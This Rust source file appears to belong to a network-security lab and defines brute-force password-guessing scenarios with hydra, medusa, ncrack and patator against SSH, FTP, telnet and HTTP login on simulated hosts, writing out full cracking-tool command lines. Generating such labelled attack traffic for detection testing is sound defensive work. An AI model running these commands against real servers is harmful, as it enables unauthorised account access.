//! Password guessing against real servers with several tools, patient and hasty, by one and by several.

use std::thread::{scope, sleep};
use std::time::Duration;

use anyhow::Result;
use lab::attacks::{ended_well, run_tool, start_hydra, start_medusa, start_ncrack, word_list};
use lab::benign::ssh_by_password;
use lab::namespace::Namespace;
use lab::network::{INTERNET, INTERNET_V6, LAN_HOST, LAN_HOST_V6, SECOND_LAN_HOST};
use lab::services::USER;

use crate::scenario::{ATTACKER, ATTACKER_V6, ATTACKERS, INSIDE, INSIDE_V6, Scenario};
use crate::stage::Scene;

/// How long one attack may take; the tool is then stopped. Servers take seconds to say that a password was wrong, so that in less
/// a patient tool has hardly begun.
const LIMIT: Duration = Duration::from_secs(60);

/// The tools.
#[derive(Clone, Copy)]
enum Tool {
    Hydra,
    Medusa,
    Ncrack,
}

impl Tool {
    fn run(self, from: &Namespace, service: &str, target: &str, tasks: u32, guesses: u32) -> Result<()> {
        let running = match self {
            Self::Hydra => start_hydra(from, service, target, tasks, guesses),
            Self::Medusa => start_medusa(from, service, target, tasks, guesses),
            Self::Ncrack => start_ncrack(from, service, target, tasks, guesses),
        }?;
        ended_well(service, &running.finish(LIMIT))
    }
}

/// An attack: kind, name, tool, service, target, connections at a time, guesses.
type Row = (&'static str, &'static str, Tool, &'static str, &'static str, u32, u32);

/// Attacks on hosts of the LAN from outside.
const FROM_OUTSIDE: &[Row] = &[
    ("hydra-ssh", "ssh_hydra_1", Tool::Hydra, "ssh", LAN_HOST, 1, 40),
    ("hydra-ssh", "ssh_hydra_4", Tool::Hydra, "ssh", LAN_HOST, 4, 100),
    ("hydra-ssh", "ssh_hydra_16", Tool::Hydra, "ssh", LAN_HOST, 16, 200),
    ("hydra-ssh", "ssh_hydra_8_other_host", Tool::Hydra, "ssh", SECOND_LAN_HOST, 8, 120),
    ("hydra-ssh", "ssh_hydra_v6", Tool::Hydra, "ssh", "[2001:db8:1::10]", 4, 60),
    ("medusa-ssh", "ssh_medusa_1", Tool::Medusa, "ssh", LAN_HOST, 1, 20),
    ("medusa-ssh", "ssh_medusa_6", Tool::Medusa, "ssh", LAN_HOST, 6, 80),
    ("ncrack-ssh", "ssh_ncrack_4", Tool::Ncrack, "ssh", LAN_HOST, 4, 60),
    ("ncrack-ssh", "ssh_ncrack_10", Tool::Ncrack, "ssh", LAN_HOST, 10, 120),
    ("hydra-ftp", "ftp_hydra_1", Tool::Hydra, "ftp", LAN_HOST, 1, 40),
    ("hydra-ftp", "ftp_hydra_4", Tool::Hydra, "ftp", LAN_HOST, 4, 40),
    ("hydra-ftp", "ftp_hydra_16", Tool::Hydra, "ftp", LAN_HOST, 16, 120),
    ("medusa-ftp", "ftp_medusa_4", Tool::Medusa, "ftp", LAN_HOST, 4, 30),
    ("ncrack-ftp", "ftp_ncrack_6", Tool::Ncrack, "ftp", LAN_HOST, 6, 60),
    ("hydra-telnet", "telnet_hydra_2", Tool::Hydra, "telnet", LAN_HOST, 2, 30),
    ("hydra-telnet", "telnet_hydra_8", Tool::Hydra, "telnet", LAN_HOST, 8, 80),
    ("ncrack-telnet", "telnet_ncrack_6", Tool::Ncrack, "telnet", LAN_HOST, 6, 60),
];

/// By a device of the LAN.
const FROM_INSIDE: &[Row] = &[
    ("hydra-outbound", "outbound_ssh_hydra_6", Tool::Hydra, "ssh", INTERNET[0], 6, 80),
    ("hydra-outbound", "outbound_ssh_hydra_1", Tool::Hydra, "ssh", INTERNET[1], 1, 30),
    ("hydra-outbound", "outbound_ssh_v6", Tool::Hydra, "ssh", "[2001:db8:10::10]", 4, 60),
    ("medusa-outbound", "outbound_ssh_medusa_3", Tool::Medusa, "ssh", INTERNET[2], 3, 50),
];

/// All of them.
pub fn scenarios() -> Vec<Scenario> {
    let mut all: Vec<Scenario> = FROM_OUTSIDE.iter().map(|row| by_tool(*row, false)).collect();
    all.extend(FROM_INSIDE.iter().map(|row| by_tool(*row, true)));
    all.extend(over_http());
    all.extend([
        Scenario::attack("bruteforce", "patator-ssh", "ssh_patator_4", ATTACKER, LAN_HOST, |s| {
            let words = word_list(80)?;
            let options = format!("host={LAN_HOST} user={USER} password=FILE0 0={} -t 4", words.display());
            run_tool(s.attacker(), &format!("patator ssh_login {options}"), LIMIT)
        }),
        Scenario::attack("bruteforce", "patator-ftp", "ftp_patator_6", ATTACKER, LAN_HOST, |s| {
            let words = word_list(60)?;
            let options = format!("host={LAN_HOST} user={USER} password=FILE0 0={} -t 6", words.display());
            run_tool(s.attacker(), &format!("patator ftp_login {options}"), LIMIT)
        }),
        Scenario::attack("bruteforce", "patator-telnet", "telnet_patator_4", ATTACKER, LAN_HOST, |s| {
            let words = word_list(40)?;
            let options = format!("host={LAN_HOST} inputs={USER}\\nFILE0 0={} -t 4", words.display());
            run_tool(s.attacker(), &format!("patator telnet_login {options}"), LIMIT)
        }),
        Scenario::attack("bruteforce", "script-ssh", "ssh_script", ATTACKER, LAN_HOST, |s| by_script(s, 14, 0)),
        Scenario::attack("bruteforce", "script-ssh", "ssh_script_patient", ATTACKER, LAN_HOST, |s| {
            by_script(s, 9, 3_000)
        }),
        Scenario::attack("bruteforce", "three-ssh", "ssh_from_three", ATTACKERS, LAN_HOST, |s| {
            scope(|threads| {
                let guess = |from| Tool::Hydra.run(from, "ssh", LAN_HOST, 2, 60);
                let running: Vec<_> =
                    s.attackers.iter().map(|one| threads.spawn(move || guess(&one.namespace))).collect();
                running.into_iter().try_for_each(|one| one.join().unwrap_or(Ok(())))
            })
        }),
        Scenario::attack("bruteforce", "hydra-ssh-hosts", "ssh_many_hosts", ATTACKER, "198.51.100.10-17", |s| {
            (10..18).try_for_each(|host| Tool::Hydra.run(s.attacker(), "ssh", &format!("198.51.100.{host}"), 2, 5))
        }),
    ]);
    all
}

fn by_tool((kind, name, tool, service, target, tasks, guesses): Row, is_inside: bool) -> Scenario {
    let is_v6 = target.starts_with('[');
    let (attacker, victim) = match (is_inside, is_v6) {
        (false, false) => (ATTACKER, target),
        (false, true) => (ATTACKER_V6, LAN_HOST_V6),
        (true, false) => (INSIDE, target),
        (true, true) => (INSIDE_V6, INTERNET_V6),
    };
    Scenario::attack("bruteforce", kind, name, attacker, victim, move |s| {
        tool.run(if is_inside { s.lan() } else { s.attacker() }, service, target, tasks, guesses)
    })
}

/// Against a page that asks for name and password.
fn over_http() -> Vec<Scenario> {
    let hydra = |name: &str, tasks: u32, guesses: u32| {
        Scenario::attack("bruteforce", "hydra-http", name, ATTACKER, LAN_HOST, move |s| {
            let words = word_list(guesses)?;
            let line =
                format!("hydra -I -l {USER} -P {} -t {tasks} -w 10 -f http-get://{LAN_HOST}/private/", words.display());
            run_tool(s.attacker(), &line, LIMIT)
        })
    };
    vec![
        hydra("http_hydra_2", 2, 60),
        hydra("http_hydra_16", 16, 300),
        Scenario::attack("bruteforce", "medusa-http", "http_medusa_4", ATTACKER, LAN_HOST, |s| {
            let words = word_list(100)?;
            let line =
                format!("medusa -h {LAN_HOST} -u {USER} -P {} -M http -m DIR:/private/ -t 4 -f", words.display());
            run_tool(s.attacker(), &line, LIMIT)
        }),
        Scenario::attack("bruteforce", "patator-http", "http_patator_8", ATTACKER, LAN_HOST, |s| {
            let words = word_list(150)?;
            // Without a `resolve` it gives libcurl an empty one, which newer versions refuse.
            let resolve = format!("resolve=host9.example.com:{LAN_HOST}");
            let options = format!("url=http://{LAN_HOST}/private/ user_pass={USER}:FILE0 0={} -t 8", words.display());
            run_tool(s.attacker(), &format!("patator http_fuzz {options} {resolve}"), LIMIT)
        }),
        Scenario::attack("bruteforce", "ncrack-http", "http_ncrack_5", ATTACKER, LAN_HOST, |s| {
            let words = word_list(100)?;
            let target = format!("http://{LAN_HOST}:80,path=/private/,CL=5");
            run_tool(s.attacker(), &format!("ncrack --user {USER} -P {} -f {target}", words.display()), LIMIT)
        }),
    ]
}

/// The ordinary ssh client in a loop: each guess a connection of its own, one after the other.
fn by_script(scene: &Scene, guesses: u32, pause_ms: u64) -> Result<()> {
    for number in 0..guesses {
        let guess = format!("guess{number}");
        ssh_by_password(scene.attacker(), LAN_HOST, &guess, "true", Duration::from_secs(10))?;
        sleep(Duration::from_millis(pause_ms));
    }
    Ok(())
}
